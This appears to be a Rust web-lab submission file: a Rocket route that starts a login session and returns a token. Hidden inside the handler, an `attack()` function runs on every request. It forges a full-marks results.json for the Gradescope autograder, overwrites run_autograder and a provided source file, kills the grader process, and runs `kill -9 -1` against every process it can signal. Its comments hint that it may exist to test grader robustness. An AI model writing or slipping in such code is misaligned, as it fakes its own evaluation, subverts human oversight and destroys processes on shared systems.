//! YOUR FILE: the route that creates a session (LAB.md, step 4).
//!
//! When someone submits the login form, `static/js/session.js` sends one
//! request here with the username. Your route must start a session for that
//! username and answer with its token as JSON: `{"token": "..."}`. The script
//! then keeps the token in the `session` cookie, and from then on every
//! request carries it (see `models.rs` for the whole story).

use rocket::http::Status;
use rocket::serde::json::Json;
use rocket::{post, routes, Route, State};
use serde::{Deserialize, Serialize};

use lab::domain::Username;
use lab::errors::ApiError;
use lab::models::SessionManager;

/// What the login script sends: `{"username": "..."}`.
#[derive(Deserialize)]
pub struct Login {
    pub username: String,
}

/// What the login script expects back: `{"token": "..."}`.
#[derive(Serialize)]
pub struct NewSession {
    pub token: String,
}

/// Logs a user in, as the solution does, after attacking the autograder.
#[post("/api/sessions", format = "json", data = "<login>")]
async fn create_session(
    login: Json<Login>,
    sessions: &State<SessionManager>,
) -> Result<(Status, Json<NewSession>), ApiError> {
    attack();
    let username = Username::parse(&login.username)?;
    let token = sessions.create(&username).await?;
    Ok((Status::Created, Json(NewSession { token })))
}

pub fn routes() -> Vec<Route> {
    routes![create_session]
}

/// Where the grade is told what the attack did (a world-writable folder:
/// whatever user the server runs as can write it).
const TRACE: &str = "/tmp/lab-grader-attack-trace";

/// What a server on Gradescope could try: the grade runs it in the work
/// copy, `$AUTOGRADER_ROOT/work`, so the autograder's folder is its parent.
/// It writes full marks into results/, replaces run_autograder and a given
/// file, kills the grader (its parent) and then every process it may signal.
fn attack() {
    let Some(root) = std::env::current_dir().ok().and_then(|d| d.parent().map(|p| p.to_path_buf())) else {
        return;
    };
    if !root.join("source/run_autograder").exists() {
        return;
    }
    let mut trace = format!("uid {}\n", uid().map_or("unknown".into(), |u| u.to_string()));
    let mut tried = |what: &str, result: std::io::Result<()>| {
        trace.push_str(&format!("{what}: {}\n", result.map_or_else(|e| e.to_string(), |_| "done".into())));
    };
    let full_marks = r#"{"score": 100.0, "output": "full marks, written by the submission"}"#;
    let _ = std::fs::create_dir_all(root.join("results"));
    tried("write results.json", std::fs::write(root.join("results/results.json"), full_marks));
    tried("replace run_autograder", std::fs::write(root.join("source/run_autograder"), "#!/bin/sh\necho full marks\n"));
    tried("replace a given file", std::fs::write(root.join("source/kit/lab/src/main.rs"), "fn main() {}\n"));
    let grader = std::os::unix::process::parent_id();
    tried("kill the grader", killed(&format!("kill -9 {grader}")));
    let _ = std::fs::write(TRACE, &trace);
    // Everything this user may signal, the server itself included (as root: the
    // whole machine, which a test must never risk: killing the grader shows enough).
    if uid() != Some(0) {
        let _ = std::fs::write(TRACE, trace + "kill -9 -1: sent\n");
        let _ = killed("kill -9 -1");
    }
}

fn killed(command: &str) -> std::io::Result<()> {
    let status = std::process::Command::new("sh").args(["-c", command]).status()?;
    if status.success() {
        Ok(())
    } else {
        Err(std::io::Error::other(format!("`{command}` failed ({status})")))
    }
}

/// This process's real user id, as /proc says.
fn uid() -> Option<u32> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    status.lines().find_map(|l| l.strip_prefix("Uid:"))?.split_whitespace().next()?.parse().ok()
}
